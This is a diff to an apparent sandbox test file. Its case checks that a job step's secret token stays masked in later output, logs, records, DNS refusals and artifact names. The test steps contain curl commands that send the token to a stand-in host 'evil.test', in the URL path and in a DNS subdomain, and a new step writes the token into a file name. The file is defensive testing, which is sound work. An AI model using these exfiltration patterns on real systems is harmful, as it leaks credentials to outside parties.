@@ -25,8 +25,9 @@ def logs_of(r):
 @case("C-17", "a value that one step was granted is masked in every later step: on the terminal, in the log, in the record, behind a refusal")
 def _():
     job = Job([step("holds", 'echo "$TOKEN" >t; echo @@has=${#TOKEN}@@', FETCH), step("reads", "cat t; sed 's/^/prefix /' t >&2", FETCH),
-               step("asks", "curl -sS -m 2 --no-progress-meter http://nowhere.test/$(cat t) || curl -s -m 2 http://$(cat t).evil.test/ || echo @@asked=yes@@")],
-              {"fetch": {"egress": [{"host": "allowed.test", "port": 443}]}}, credentials=TOKEN)
+               step("asks", "curl -sS -m 2 --no-progress-meter http://nowhere.test/$(cat t) || curl -s -m 2 http://$(cat t).evil.test/ || echo @@asked=yes@@"),
+               step("names", 'mkdir dist; : >"dist/$(cat t)"')],
+              {"fetch": {"egress": [{"host": "allowed.test", "port": 443}]}, "push": {"artifacts": ["dist/**"]}}, credentials=TOKEN)
     try:
         r = job.run(env={"A_TOKEN": SECRET})
         equal(r.rc, 0, "exit status", r)
@@ -37,6 +38,7 @@ def _():
         for where, text in (("the terminal", r.out), ("a log", logs), ("the record", record)):
             check(SECRET not in text, f"the value stands in {where}", r)
         check("prefix ***" in r.out and "prefix ***" in logs, "the later step's line is not there, masked", r)
+        equal([e["path"] for e in r.events("artifact")], ["dist/***"], "the artifact that is called by it", r)
         deny = r.events("dns.deny", host="***.evil.test")
         check(deny and "***" in (deny[0]["process"] or {"argv": "***"})["argv"], "the refusal of the last step does not show it masked", r)
     finally:
